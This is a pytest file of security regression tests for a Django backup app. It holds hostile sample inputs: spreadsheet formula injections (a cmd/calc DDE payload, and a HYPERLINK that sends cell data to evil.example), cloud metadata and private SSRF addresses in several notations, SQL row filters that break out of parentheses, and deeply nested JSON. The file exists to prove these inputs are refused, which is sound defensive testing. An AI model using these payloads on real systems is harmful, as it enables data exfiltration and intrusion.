"""Bad input that got through on day one (issue 20): formulas in the CSV
files, an audit trail grown by knocking on a locked door, a JSON body nested
deep enough to crash the API, numbers too large for a date, an Authorization
header that switched off the auditors' read-only rule, endpoints on the
cloud's metadata address, and a row filter that escaped its parentheses."""

import csv
import importlib
import io
import re
import sqlite3
from datetime import timedelta
from pathlib import Path

import psycopg
import pytest
import time_machine
from django.conf import settings
from django.core.management import CommandError, call_command
from django.utils import timezone
from werkzeug import Response

from catalog import backup_runs, lifecycle, services, spreadsheets, tasks
from catalog.alerts import notify
from catalog.alerts.forms import ChannelForm
from catalog.alerts.models import Alert, Channel, Notification
from catalog.alerts.transports import Message, PermanentError, transport_for
from catalog.engine.errors import SourceError, StorageError
from catalog.engine.exports import ExportDump, TableSpec, validate_where
from catalog.forms import DestinationForm
from catalog.models import AuditEvent, Backup, BackupPlan, Destination, Source
from tests.catalog.api.helpers import bearer, make_token
from tests.factories import local_destination, make_plan, sqlite_plan, sqlite_source

pytestmark = pytest.mark.django_db

FORMULA_NAME = "=2+5+cmd|' /C calc'!A0"
README = Path(__file__).resolve().parents[2] / "README.md"


def lock_out(client, username):
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        client.post("/login/", {"username": username, "password": f"wrong-{attempt}"})


def download(client, url, **params):
    response = client.get(url, params)
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode()


# --- 1. spreadsheet formulas ----------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'quoted"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front_and_comes_back_whole(text):
    written = spreadsheets.safe_cell(text)
    assert written == "'" + text
    assert spreadsheets.original_cell(written) == text


def test_numbers_and_plain_text_are_written_as_they_are():
    assert [spreadsheets.safe_cell(value) for value in (-5, 2.5, None, "Inventory DB", "a=b")] == [
        -5,
        2.5,
        None,
        "Inventory DB",
        "a=b",
    ]


def test_a_formula_typed_as_a_user_name_is_text_in_the_audit_csv_and_the_readme_recipe_verifies_it(
    client, auditor_client, tmp_path, monkeypatch
):
    lock_out(client, FORMULA_NAME)
    assert AuditEvent.objects.filter(actor_label=FORMULA_NAME, action="auth.lockout").exists()

    text = download(auditor_client, "/audit/export.csv")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)]
    assert "'" + FORMULA_NAME in cells

    # README "Audit trail": the recipe, exactly as written there, re-verifies both exports.
    (tmp_path / "audit-trail.csv").write_text(text, encoding="utf-8")
    (tmp_path / "audit-trail.jsonl").write_text(download(auditor_client, "/audit/export.jsonl"), encoding="utf-8")
    recipe = re.search(
        r"To re-verify an export outside Strongroom.*?```python\n(.*?)```", README.read_text(), re.DOTALL
    ).group(1)
    monkeypatch.chdir(tmp_path)
    found = {}
    exec(recipe, found)  # its asserts check every hash and link
    assert FORMULA_NAME in [row["actor_label"] for row in found["rows"]]
    from_csv = [{**row, "id": int(row["id"])} for row in found["csv_rows"]("audit-trail.csv")]
    assert from_csv == found["jsonl_rows"]("audit-trail.jsonl")


def test_a_source_named_like_a_formula_is_text_in_the_compliance_csv(auditor_client, tmp_path):
    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    services.save_source("test", Source(name=name, engine="sqlite", sqlite_path=str(tmp_path / "x.db")))

    table = list(csv.reader(io.StringIO(download(auditor_client, "/compliance/report.csv"))))

    assert ["Report", "Sources", "'" + name] in table
    assert not [cell for row in table for cell in row if cell.startswith(spreadsheets.FORMULA_STARTS)]


# --- 2. one audit event per lockout --------------------------------------------------------


def test_a_lockout_writes_one_event_however_often_the_locked_door_is_knocked_on_and_one_when_it_ends(
    client, admin_user
):
    lock_out(client, "alice")
    for attempt in range(30):
        password = "correct horse battery" if attempt % 2 else f"again-{attempt}"
        assert client.post("/login/", {"username": "alice", "password": password}).status_code == 429

    assert AuditEvent.objects.filter(action="auth.lockout").count() == 1
    assert not AuditEvent.objects.filter(action="auth.lockout_end").exists()

    with time_machine.travel(timezone.now() + settings.AXES_COOLOFF_TIME + timedelta(minutes=1), tick=False):
        assert tasks.tick()["lockouts_ended"] == 1
        [ended] = AuditEvent.objects.filter(action="auth.lockout_end")
        assert ended.actor_label == "alice" and ended.ip == "127.0.0.1"
        assert ended.changes["username"] == "alice" and ended.changes["ended"] == "cool-off passed"
        assert client.post("/login/", {"username": "alice", "password": "correct horse battery"}).status_code == 302

    # The lockout and its end; the sign-in after it is an event of its own (auth.sign_in).
    assert AuditEvent.objects.filter(action__startswith="auth.lockout").count() == 2


def test_the_end_of_a_lockout_is_recorded_with_the_locked_out_address_whoever_signs_in_next(
    client, admin_user, auditor_user
):
    from django.test import Client

    lock_out(client, "alice")
    with time_machine.travel(timezone.now() + settings.AXES_COOLOFF_TIME + timedelta(minutes=1), tick=False):
        elsewhere = Client(REMOTE_ADDR="192.0.2.7")
        assert elsewhere.post("/login/", {"username": "audrey", "password": "correct horse battery"}).status_code == 302

    [ended] = AuditEvent.objects.filter(action="auth.lockout_end")
    assert ended.actor_label == "alice" and ended.ip == "127.0.0.1"


def test_a_new_lockout_after_the_first_ended_is_a_new_event(client, admin_user):
    lock_out(client, "alice")
    with time_machine.travel(timezone.now() + settings.AXES_COOLOFF_TIME + timedelta(minutes=1), tick=False):
        lock_out(client, "alice")
        assert client.post("/login/", {"username": "alice", "password": "more"}).status_code == 429
    actions = list(
        AuditEvent.objects.filter(action__startswith="auth.").order_by("id").values_list("action", flat=True)
    )
    assert actions == ["auth.lockout", "auth.lockout_end", "auth.lockout"]


# --- 3. deeply nested JSON -----------------------------------------------------------------


@pytest.mark.parametrize("body", ["[" * 100_000 + "]" * 100_000, '{"plan": ' + "[" * 50_000 + "]" * 50_000 + "}"])
def test_a_deeply_nested_json_body_is_a_json_400(client, body):
    _, raw = make_token(["backup"])
    response = client.post("/api/v1/backups", body, content_type="application/json", headers=bearer(raw))
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"error": "The request body is nested too deeply; send a flat JSON object."}


# --- 4. numbers within bounds, and one plan's failure stops no other ------------------------------------


def number_fields():
    """Every integer input of every form Strongroom shows or the API reads."""
    from django import forms

    modules = [
        "catalog.forms",
        "catalog.api.forms",
        "catalog.alerts.forms",
        "drills.forms",
        "pitr.views",
        "pitr.restore_views",
        "compliance.forms",
        "restore.views",
        "restore.wizard",
    ]
    found = []
    for module_name in modules:
        module = importlib.import_module(module_name)
        for form_class in vars(module).values():
            if not (
                isinstance(form_class, type)
                and issubclass(form_class, forms.BaseForm)
                and form_class.__module__ == module_name
            ):
                continue
            for name, field in form_class.base_fields.items():
                if isinstance(field, forms.IntegerField):
                    found.append(pytest.param(form_class, name, id=f"{form_class.__name__}.{name}"))
    return found


@pytest.mark.parametrize("form_class, name", number_fields())
def test_no_form_accepts_the_largest_number_the_database_takes(form_class, name):
    field = form_class.base_fields[name]
    if field.max_value is not None:  # bounded by the form itself (and the input's max says so)
        assert field.max_value < 2**31 - 1
        return
    form = form_class(data={name: str(2**31 - 1)})  # bounded by the model, as the form checks it
    assert not form.is_valid() and name in form.errors, f"{form_class.__name__}.{name} accepts 2147483647"
    assert form[name].field.widget.attrs.get("max"), "the browser is told the bound too"


def test_the_plan_form_refuses_a_retention_of_two_billion_days_with_a_message(admin_client, tmp_path):
    plan = sqlite_plan(tmp_path)
    data = {
        "name": plan.name,
        "source": plan.source_id,
        "schedule": plan.schedule,
        "format": plan.format,
        "compression": plan.compression,
        "destinations": [d.pk for d in plan.destinations.all()],
        "enabled": "on",
        "retention_mode": "days",
        "keep_daily": 30,
        "keep_weekly": 12,
        "keep_monthly": 12,
        "keep_yearly": 5,
        "keep_last": 7,
        "keep_days": 2147483647,
        "keep_minimum": 1,
        "keep_manual_days": 30,
        "restore_test_days": 7,
        "checksum_all_days": 30,
        "size_tolerance_percent": 50,
    }

    response = admin_client.post(f"/plans/{plan.pk}/edit/", data)

    assert response.status_code == 200
    assert "Ensure this value is less than or equal to 36500." in response.content.decode()
    plan.refresh_from_db()
    assert plan.keep_days == 30 and plan.retention_mode != "days"


@pytest.fixture
def two_plans(tmp_path):
    """ "Alpha" with a retention stored before the bounds (2147483647 days) and
    "Beta" with two backups of which its rule keeps one; Alpha comes first."""
    source = sqlite_source(tmp_path)
    alpha = make_plan(
        source,
        [local_destination(tmp_path / "a", name="Disk A")],
        name="Alpha",
        format="sqlite",
        encrypt=False,
        retention_mode="days",
    )
    beta = make_plan(
        source,
        [local_destination(tmp_path / "b", name="Disk B")],
        name="Beta",
        format="sqlite",
        encrypt=False,
        retention_mode="last",
        keep_last=5,
    )
    # Each runs at once: the queue is synchronous in the tests.
    _, old, new = [backup_runs.start_backup("test", plan, trigger="schedule") for plan in (alpha, beta, beta)]
    assert set(Backup.objects.values_list("status", flat=True)) == {Backup.SUCCEEDED}
    BackupPlan.objects.filter(pk=alpha.pk).update(keep_days=2147483647)
    BackupPlan.objects.filter(pk=beta.pk).update(keep_last=1)
    return alpha, beta, old, new


@pytest.mark.django_db(transaction=True)  # the inline queue's worker closes the connection
def test_a_plan_whose_rule_cannot_be_applied_stops_no_other_plan_and_raises_an_alert(two_plans):
    alpha, beta, old, new = two_plans
    out = io.StringIO()

    with pytest.raises(CommandError, match="Retention could not be applied to: Alpha; the other plans were pruned"):
        call_command("prune", stdout=out, stderr=io.StringIO())

    assert "Alpha: not applied: " in out.getvalue() and "Beta: 1 pruned" in out.getvalue()
    assert Backup.objects.get(pk=old.pk).is_pruned() and not Backup.objects.get(pk=new.pk).is_pruned()
    alert = Alert.objects.get(kind=Alert.RETENTION_FAILED, resolved_at__isnull=True)
    assert alert.key == f"plan:{alpha.pk}" and alert.title == "Retention of plan Alpha could not be applied"
    assert "a number in its retention rule is too large to count days with" in alert.detail
    assert "Other plans are pruned as usual" in alert.detail
    assert alert.url == alpha.get_absolute_url()

    # The nightly task goes on past it too, and a plan fixed clears its alert.
    assert tasks.prune_nightly()[beta.pk] == "0 pruned"
    BackupPlan.objects.filter(pk=alpha.pk).update(keep_days=30)
    assert tasks.prune_nightly()[alpha.pk] == "0 pruned"
    assert Alert.objects.get(pk=alert.pk).resolved_at is not None


@pytest.mark.django_db(transaction=True)
def test_stored_numbers_past_the_bounds_are_brought_within_them_and_the_plan_page_opens(admin_client, two_plans):
    from django.apps import apps

    alpha, *_ = two_plans
    migration = importlib.import_module("catalog.migrations.0016_bounded_numbers_and_retention_alert")
    migration.bring_numbers_within_bounds(apps, None)

    assert BackupPlan.objects.get(pk=alpha.pk).keep_days == 36500
    assert admin_client.get(alpha.get_absolute_url()).status_code == 200
    assert lifecycle.prune_plan_checked("test", alpha).failure == ""


# --- 5. the read-only rule and the Authorization header ------------------------------------------------


@pytest.mark.parametrize("header", ["", "Bearer", "Bearer sr_not-a-token", "Basic YWxpY2U6eA=="])
def test_an_authorization_header_does_not_let_an_auditor_post_to_a_page(auditor_client, header):
    response = auditor_client.post("/sources/", {}, HTTP_AUTHORIZATION=header)
    assert response.status_code == 403


def test_a_valid_token_lets_through_on_the_api_only(auditor_client, tmp_path):
    plan = sqlite_plan(tmp_path)
    _, raw = make_token(["backup"])

    assert auditor_client.post("/sources/", {}, headers=bearer(raw)).status_code == 403
    refused = auditor_client.post(
        "/api/v1/backups",
        {"plan": plan.pk},
        content_type="application/json",
        headers={"Authorization": "Bearer sr_not-a-token"},
    )
    assert refused.status_code == 403 and "Only administrators change anything" in refused.json()["error"]
    accepted = auditor_client.post(
        "/api/v1/backups", {"plan": plan.pk}, content_type="application/json", headers=bearer(raw)
    )
    assert accepted.status_code == 202 and accepted.json()["trigger"] == "api"


# --- 6. endpoints on link-local, metadata and private addresses ----------------------------------------------

ALWAYS_REFUSED = [
    "http://169.254.169.254/latest/meta-data/",
    "http://0xa9fea9fe/",
    "http://2852039166:9000",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[fe80::1]:9000",
    "http://metadata.google.internal/",
    "http://[fd00:ec2::254]/",
    "http://0.0.0.0:9000",
]
PRIVATE = [
    "http://10.1.2.3:9000",
    "http://0x7f000001:9000",
    "http://127.1:9000",
    "http://localhost:9000",
    "http://192.168.0.10",
    "http://[::1]:9000",
]


def destination_form(endpoint):
    return DestinationForm(
        data={
            "name": "Off-site",
            "kind": "s3",
            "bucket": "backups",
            "endpoint_url": endpoint,
            "lock_mode": "GOVERNANCE",
        }
    )


def channel_form(url):
    return ChannelForm(
        data={"name": "Hook", "kind": Channel.WEBHOOK, "url": url, "events": ["source_health"], "enabled": "on"}
    )


@pytest.mark.parametrize("allow_private", [True, False])
@pytest.mark.parametrize("url", ALWAYS_REFUSED)
def test_link_local_and_metadata_endpoints_are_refused_in_any_notation(settings, url, allow_private):
    settings.ALLOW_PRIVATE_ENDPOINTS = allow_private
    for form, field in ((destination_form(url), "endpoint_url"), (channel_form(url), "url")):
        assert not form.is_valid()
        assert "Strongroom never sends requests there" in str(
            form.errors[field]
        ) or "not the address of a server" in str(form.errors[field])


@pytest.mark.parametrize("url", PRIVATE)
def test_private_and_loopback_endpoints_follow_the_setting(settings, url):
    settings.ALLOW_PRIVATE_ENDPOINTS = False
    for form, field in ((destination_form(url), "endpoint_url"), (channel_form(url), "url")):
        assert not form.is_valid() and "ALLOW_PRIVATE_ENDPOINTS is off" in str(form.errors[field])
    settings.ALLOW_PRIVATE_ENDPOINTS = True
    for form, field in ((destination_form(url), "endpoint_url"), (channel_form(url), "url")):
        form.is_valid()
        assert field not in form.errors


def test_private_endpoints_are_allowed_by_default():
    assert importlib.import_module("backupsite.settings").ALLOW_PRIVATE_ENDPOINTS is True


def test_a_stored_endpoint_is_checked_again_before_each_use(settings):
    destination = Destination.objects.create(
        name="MinIO", kind="s3", bucket="backups", endpoint_url="http://127.0.0.1:9000"
    )
    settings.ALLOW_PRIVATE_ENDPOINTS = False
    ok, message = services.test_destination(destination)
    assert not ok and "The endpoint of MinIO is refused: 127.0.0.1 is a loopback address" in message
    Destination.objects.filter(pk=destination.pk).update(endpoint_url="http://0xa9fea9fe:9000")
    destination.refresh_from_db()
    settings.ALLOW_PRIVATE_ENDPOINTS = True
    with pytest.raises(StorageError, match=r"0xa9fea9fe \(169.254.169.254\) is a link-local address"):
        destination.storage()


def webhook(url):
    channel = Channel(name="Hook", kind=Channel.WEBHOOK, url=url, events=["source_health"])
    notify.save_channel("test", channel, secrets={"secret": "s"})
    return channel


def test_a_webhook_is_not_sent_to_a_refused_address_nor_redirected_to_one(settings, httpserver):
    channel = webhook(httpserver.url_for("/hook"))
    settings.ALLOW_PRIVATE_ENDPOINTS = False
    with pytest.raises(PermanentError, match=r"localhost \(127.0.0.1\) is a loopback address"):
        transport_for(channel).notify(Message.for_test(channel))
    assert httpserver.log == []

    settings.ALLOW_PRIVATE_ENDPOINTS = True
    httpserver.expect_request("/moved").respond_with_response(
        Response("", status=307, headers={"Location": "http://169.254.169.254/latest/meta-data/"})
    )
    Channel.objects.filter(pk=channel.pk).update(url=httpserver.url_for("/moved"))
    channel.refresh_from_db()
    with pytest.raises(
        PermanentError,
        match="redirected to an address Strongroom does not send to: 169.254.169.254 is a link-local address",
    ):
        transport_for(channel).notify(Message.for_test(channel))
    assert [request.path for request, _ in httpserver.log] == ["/moved"]
    assert not Notification.objects.exists()


# --- 7. row filters that escape their parentheses or write -------------------------------------------------


@pytest.fixture
def orders(pg_database):
    with psycopg.connect(**pg_database, autocommit=True) as conn:
        conn.execute("CREATE TABLE orders (id integer PRIMARY KEY, note text)")
        conn.execute("INSERT INTO orders SELECT g, 'order ' || g FROM generate_series(1, 30) g")
        conn.execute("CREATE TABLE touched (at timestamptz)")
        conn.execute(
            "CREATE FUNCTION touch() RETURNS boolean LANGUAGE sql VOLATILE AS "
            "$$ INSERT INTO touched VALUES (now()) RETURNING true $$"
        )
    return pg_database


def export_counts(conninfo, where, fmt="csv"):
    with ExportDump(conninfo, [TableSpec("public", "orders", where)], fmt) as dump:
        b"".join(dump)
    return dump.table_counts


@pytest.mark.parametrize(
    "escape",
    [
        "id < 10) OR (true",
        "id < 10 ) OR ( id > 0",
        "id < 10)) OR ((true",
        "true) OR (id > 0",
        "id < 10 OR note = ')' ) OR (true",
    ],
)
def test_a_filter_cannot_close_the_exports_parentheses(orders, escape):
    with pytest.raises(
        SourceError,
        match="must be one condition: the '\\)' at character \\d+ closes a parenthesis the filter did not open",
    ):
        validate_where(orders, TableSpec("public", "orders", escape))
    with pytest.raises(SourceError, match="must be one condition"):
        export_counts(orders, escape)


@pytest.mark.parametrize(
    "where, problem",
    [
        ("(id < 10", "the '(' at character 1 is never closed"),
        ("note = 'x", "the quote at character 8 is never closed"),
        ("id < 10 -- ) OR (true", "it holds a comment"),
        ("id < 10; SELECT 1", "it holds a ';'"),
        ("note = $$)$$", "dollar quoting is not accepted"),
        ("note = E'\\') OR (true OR note = \\''", "E'…' string at character 8 is not accepted here"),
    ],
)
def test_a_filter_that_is_not_one_condition_is_refused_in_words(orders, where, problem):
    with pytest.raises(SourceError, match=re.escape(problem)):
        validate_where(orders, TableSpec("public", "orders", where))


def test_parentheses_and_quotes_inside_a_filter_are_fine(orders):
    where = "(id < 5 OR note IN ('order )', 'order 29')) AND \"note\" <> '(' AND date'2026-01-01' IS NOT NULL"
    validate_where(orders, TableSpec("public", "orders", where))
    assert export_counts(orders, where) == {"public.orders": 5}  # 1 to 4, and 29
    assert export_counts(orders, "id < 10") == {"public.orders": 9}


def test_a_filter_calling_a_function_that_writes_fails_the_export_and_writes_nothing(orders):
    with pytest.raises(SourceError, match="cannot execute INSERT in a read-only transaction"):
        export_counts(orders, "touch()")
    with psycopg.connect(**orders) as conn:
        assert conn.execute("SELECT count(*) FROM touched").fetchone() == (0,)


def test_a_sqlite_filter_cannot_close_the_exports_parentheses_either(tmp_path):
    path = tmp_path / "notes.db"
    with sqlite3.connect(path) as conn:
        conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
        conn.executemany("INSERT INTO notes (body) VALUES (?)", [("n",)] * 20)
    with pytest.raises(SourceError, match="must be one condition: the '\\)' at character 8"):
        validate_where(str(path), TableSpec("main", "notes", "id < 10) OR (1"))
    with pytest.raises(SourceError, match="must be one condition"):
        validate_where(str(path), TableSpec("main", "notes", "[id)] < 10) OR (1"))
    with ExportDump(str(path), [TableSpec("main", "notes", "id < 10 AND body <> ')'")], "csv") as dump:
        b"".join(dump)
    assert dump.table_counts == {"main.notes": 9}
